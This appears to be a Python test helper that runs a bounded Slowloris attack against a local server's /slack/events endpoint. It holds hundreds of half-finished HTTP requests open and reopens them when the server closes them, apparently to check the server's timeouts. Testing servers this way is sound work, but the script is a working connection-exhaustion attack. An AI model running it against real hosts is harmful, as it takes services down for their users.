"""Slow and silent clients against a server on 127.0.0.1, as an attacker runs them, bounded in time and count.

``slow`` connections each send the start of a request and then one more header line every ``line_every`` seconds,
never the blank line that ends the headers; ``silent`` ones send the first two lines and then nothing. A
connection the server closes is opened again at once (a real attacker keeps up the pressure), at most
``max_reopens`` times in all. One thread drives every socket with ``select``; ``stop()`` ends it and closes them.
"""

from __future__ import annotations

import itertools
import selectors
import socket
import threading
import time
from dataclasses import dataclass, field

START = b"POST /slack/events HTTP/1.1\r\nHost: x\r\n"


@dataclass
class SlowlorisStats:
    """What the attack saw: connections opened, closed by the server, header lines sent, reopens refused."""

    opened: int = 0
    closed_by_server: int = 0
    lines_sent: int = 0
    open_failures: int = 0
    longest_held: float = 0.0
    most_lines_on_one: int = 0  # the most header lines any one connection got to send before it was closed
    held_seconds: list[float] = field(default_factory=list)


@dataclass
class _Conn:
    sock: socket.socket
    slow: bool
    opened_at: float
    next_line_at: float
    lines: int = 0


class Slowloris:
    """``with Slowloris(port, slow=200, silent=8):`` holds the connections until the block ends."""

    def __init__(
        self,
        port: int,
        *,
        slow: int = 200,
        silent: int = 8,
        line_every: float = 11.0,
        max_reopens: int = 5000,
        max_seconds: float = 120.0,
    ):
        self.port = port
        self.slow, self.silent = slow, silent
        self.line_every = line_every
        self.max_reopens = max_reopens
        self.max_seconds = max_seconds
        self.stats = SlowlorisStats()
        self._selector = selectors.DefaultSelector()
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, name="slowloris", daemon=True)
        self._lines = itertools.count()

    def __enter__(self) -> Slowloris:
        for n in range(self.slow + self.silent):
            # Stagger the slow lines over the period, as the attack in the issue did.
            self._open(slow=n < self.slow, first_line_in=self.line_every * (n % 20) / 20)
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.stop()

    @property
    def open_now(self) -> int:
        return len(self._selector.get_map())

    def stop(self) -> None:
        self._stop.set()
        if self._thread.is_alive():
            self._thread.join(timeout=10)
        for key in list(self._selector.get_map().values()):
            self._close(key.data, by_server=False)

    def _open(self, *, slow: bool, first_line_in: float = 0.0) -> None:
        try:
            sock = socket.create_connection(("127.0.0.1", self.port), timeout=5)
            sock.sendall(START)
        except OSError:
            self.stats.open_failures += 1
            return
        sock.setblocking(False)
        now = time.monotonic()
        conn = _Conn(sock, slow, now, now + (first_line_in or self.line_every))
        self._selector.register(sock, selectors.EVENT_READ, conn)
        self.stats.opened += 1

    def _close(self, conn: _Conn, *, by_server: bool) -> None:
        self._selector.unregister(conn.sock)
        conn.sock.close()
        held = time.monotonic() - conn.opened_at
        if by_server:
            self.stats.closed_by_server += 1
            self.stats.held_seconds.append(held)
        self.stats.longest_held = max(self.stats.longest_held, held)

    def _run(self) -> None:
        deadline = time.monotonic() + self.max_seconds
        reopens = 0
        while not self._stop.is_set() and time.monotonic() < deadline:
            for key, _ in self._selector.select(timeout=0.1):
                conn: _Conn = key.data
                try:
                    conn.sock.recv(4096)
                except BlockingIOError:
                    continue
                except OSError:
                    pass
                # EOF, a reset, or an answer (to a slow client, only ever a refusal): the server let go of it.
                self._close(conn, by_server=True)
                if reopens < self.max_reopens:
                    reopens += 1
                    self._open(slow=conn.slow)
            now = time.monotonic()
            for key in list(self._selector.get_map().values()):
                conn = key.data
                if conn.slow and now >= conn.next_line_at:
                    try:
                        conn.sock.send(b"X-Slow-%d: a\r\n" % next(self._lines))
                        self.stats.lines_sent += 1
                        conn.lines += 1
                        self.stats.most_lines_on_one = max(self.stats.most_lines_on_one, conn.lines)
                    except OSError:
                        pass  # the close shows up as readable EOF on the next select
                    conn.next_line_at = now + self.line_every
